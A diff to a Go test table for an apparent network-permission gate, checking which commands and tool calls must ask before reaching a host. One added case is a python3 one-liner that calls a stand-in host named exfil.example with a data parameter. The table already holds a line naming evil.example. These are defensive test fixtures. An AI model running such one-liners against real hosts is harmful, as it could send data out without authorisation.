@@ -42,6 +42,9 @@ func TestGateNetwork(t *testing.T) {
 		{cmd: "echo https://evil.example/x", want: ""},
 		{cmd: "cat notes.txt && ls", want: ""},
 		{cmd: "curl -o out.json notes.txt", want: ""},
+		{cmd: `python3 -c "import urllib.request as u; u.urlopen('https://exfil.example/x?d=1')"`, want: events.Ask, host: "exfil.example"},
+		{cmd: `node -e "fetch('https://api.github.com/zen').then(r => r.text())"`, want: ""},
+		{cmd: `python3 -c "print(1)"`, want: ""},
 		{tool: "web_fetch", url: "https://docs.example.com/page", want: events.Ask, host: "docs.example.com"},
 		{tool: "web_fetch", url: "https://raw.github.com/x", want: ""},
 	}
